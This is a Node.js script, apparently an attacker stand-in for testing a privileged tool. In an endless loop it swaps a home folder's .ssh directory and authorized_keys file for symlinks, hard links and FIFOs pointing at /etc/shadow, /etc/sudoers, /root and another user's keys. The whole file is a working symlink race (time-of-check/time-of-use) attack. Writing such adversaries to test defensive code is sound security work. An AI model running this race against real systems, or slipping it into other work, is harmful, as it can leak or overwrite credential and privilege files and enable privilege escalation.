// Swaps what is at ~/.ssh and in it, as fast as it can, for ever. Argument: the home folder.
import { execFileSync } from 'node:child_process'
import { linkSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'

process.chdir(process.argv[2])
const attempt = work => {
  try {
    work()
  } catch {
    // Another attacker, or the defender, was faster.
  }
}
const own = `spare-${process.pid}`
const targets = ['/etc', '/root', '/etc/sudoers.d', '/home/victim/.ssh', '/etc/ssh']
const files = ['/etc/shadow', '/etc/passwd', '/root/.bashrc', '/home/victim/.ssh/authorized_keys', '/etc/sudoers']
for (let round = 0; ; round++) {
  const target = targets[round % targets.length]
  const file = files[round % files.length]
  attempt(() => rmSync(own, { recursive: true, force: true }))
  attempt(() => {
    mkdirSync(own, { mode: 0o777 })
    if (round % 3 === 0) symlinkSync(file, `${own}/authorized_keys`)
    if (round % 3 === 1) writeFileSync(`${own}/authorized_keys`, 'mine\n')
    if (round % 29 === 2) execFileSync('mkfifo', [`${own}/authorized_keys`])
    if (round % 31 === 5) mkdirSync(`${own}/authorized_keys`)
  })
  attempt(() => linkSync(file, `${own}/.authorized_keys`))
  attempt(() => rmSync('.ssh', { recursive: true, force: true }))
  attempt(() => renameSync(own, '.ssh'))
  if (round % 2 === 0) {
    attempt(() => symlinkSync(target, own))
    attempt(() => renameSync('.ssh', `${own}-old`))
    attempt(() => renameSync(own, '.ssh'))
    attempt(() => rmSync('.ssh', { force: true }))
    attempt(() => renameSync(`${own}-old`, '.ssh'))
  } else {
    attempt(() => rmSync('.ssh/authorized_keys', { recursive: true, force: true }))
    attempt(() => symlinkSync(file, '.ssh/authorized_keys'))
    attempt(() => rmSync('.ssh/authorized_keys', { force: true }))
  }
}
